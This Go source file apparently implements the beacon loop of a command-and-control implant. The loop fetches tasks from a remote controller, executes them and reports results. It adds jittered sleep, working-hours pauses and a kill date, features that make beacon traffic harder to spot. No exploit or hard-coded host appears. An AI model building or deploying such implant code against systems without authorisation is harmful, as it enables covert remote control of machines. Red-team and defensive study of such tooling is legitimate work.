package beacon

import (
	"context"
	crand "crypto/rand"
	"fmt"
	"log/slog"
	"math/rand/v2"
	"sync"
	"sync/atomic"
	"time"

	"github.com/EternisAI/silo-beacon/internal/agent"
	"github.com/EternisAI/silo-beacon/internal/executor"
	"github.com/EternisAI/silo-beacon/internal/task"
)

// Transport fetches work from and delivers results to the controller. A nil
// task means nothing is pending; false means the result was not delivered.
type Transport interface {
	ReceiveTask(ctx context.Context) *task.Task
	SendResult(ctx context.Context, r *task.Result) bool
	Close() error
}

// retryBudget is implemented by transports that stop talking to the network
// after too many consecutive failures.
type retryBudget interface {
	Exhausted() bool
	ResetRetries()
}

type State int32

const (
	StateStopped State = iota
	StateRunning
	StateStopping
)

func (s State) String() string {
	switch s {
	case StateStopped:
		return "stopped"
	case StateRunning:
		return "running"
	case StateStopping:
		return "stopping"
	default:
		return fmt.Sprintf("State(%d)", int32(s))
	}
}

// Beacon runs the check-in loop: fetch a task, execute it, report the
// result, then sleep a jittered interval.
type Beacon struct {
	cfg       *agent.Config
	session   *agent.Session
	transport Transport
	executor  executor.Executor

	rngMu sync.Mutex
	rng   *rand.Rand

	state  atomic.Int32
	mu     sync.Mutex
	cancel context.CancelFunc
	doneCh chan struct{}
}

func New(cfg *agent.Config, session *agent.Session, transport Transport, exec executor.Executor) *Beacon {
	var seed [32]byte
	crand.Read(seed[:])

	done := make(chan struct{})
	close(done)

	return &Beacon{
		cfg:       cfg,
		session:   session,
		transport: transport,
		executor:  exec,
		rng:       rand.New(rand.NewChaCha8(seed)),
		doneCh:    done,
	}
}

func (b *Beacon) State() State {
	return State(b.state.Load())
}

// Done is closed when the loop has exited, either through Stop or because
// the session is no longer active.
func (b *Beacon) Done() <-chan struct{} {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.doneCh
}

func (b *Beacon) Start() error {
	b.mu.Lock()
	defer b.mu.Unlock()

	if b.State() == StateRunning {
		return nil
	}

	if err := b.cfg.Validate(); err != nil {
		slog.Error("Invalid beacon configuration", "error", err)
		return err
	}

	ctx, cancel := context.WithCancel(context.Background())
	b.cancel = cancel
	b.doneCh = make(chan struct{})
	b.state.Store(int32(StateRunning))

	go b.run(ctx, b.doneCh)

	slog.Info("Beacon started",
		"protocol", b.cfg.Protocol,
		"servers", len(b.cfg.Servers),
		"sleep", b.cfg.Sleep,
		"jitter", b.cfg.Jitter)
	return nil
}

// Stop wakes any sleep, aborts in-flight I/O and waits for the loop to
// exit. No transport call is made after it returns.
func (b *Beacon) Stop() {
	b.mu.Lock()
	defer b.mu.Unlock()

	if b.State() == StateStopped {
		return
	}

	slog.Info("Stopping beacon")
	b.state.Store(int32(StateStopping))
	b.cancel()
	<-b.doneCh
	b.state.Store(int32(StateStopped))
	slog.Info("Beacon stopped")
}

func (b *Beacon) run(ctx context.Context, done chan struct{}) {
	defer close(done)
	defer b.state.CompareAndSwap(int32(StateRunning), int32(StateStopped))

	for ctx.Err() == nil {
		if !b.session.IsActive() {
			slog.Info("Session is no longer active, exiting", "kill_date", b.session.KillDate())
			return
		}

		if wait := b.session.WorkingSleep(); wait > 0 {
			slog.Info("Outside working hours", "resume_in", wait)
			if !sleep(ctx, wait) {
				return
			}
			continue
		}

		if rb, ok := b.transport.(retryBudget); ok && rb.Exhausted() {
			delay := b.CalculateSleepInterval()
			slog.Warn("Transport retry budget exhausted, backing off", "delay", delay)
			if !sleep(ctx, delay) {
				return
			}
			rb.ResetRetries()
		}

		b.checkIn(ctx)

		if !sleep(ctx, b.CalculateSleepInterval()) {
			return
		}
	}
}

// checkIn performs one fetch, execute, report cycle. Anything produced after
// the context is cancelled is dropped.
func (b *Beacon) checkIn(ctx context.Context) {
	t := b.transport.ReceiveTask(ctx)
	if t == nil || ctx.Err() != nil {
		return
	}

	result := b.executor.Execute(ctx, t)
	if ctx.Err() != nil {
		return
	}

	if !b.transport.SendResult(ctx, result) {
		slog.Warn("Failed to deliver result", "task_id", result.TaskID)
	}
}

// CalculateSleepInterval draws the delay before the next check-in.
func (b *Beacon) CalculateSleepInterval() time.Duration {
	b.rngMu.Lock()
	roll := b.rng.IntN(101)
	magnitude := b.rng.IntN(101)
	b.rngMu.Unlock()

	return jitter(b.cfg.Sleep, b.cfg.Jitter, roll, magnitude)
}

// jitter lengthens base by magnitude percent when roll falls within the
// jitter percentage.
func jitter(base time.Duration, percent, roll, magnitude int) time.Duration {
	if percent == 0 || roll > percent {
		return base
	}
	return base + base*time.Duration(magnitude)/100
}

func sleep(ctx context.Context, d time.Duration) bool {
	timer := time.NewTimer(d)
	defer timer.Stop()

	select {
	case <-ctx.Done():
		return false
	case <-timer.C:
		return true
	}
}
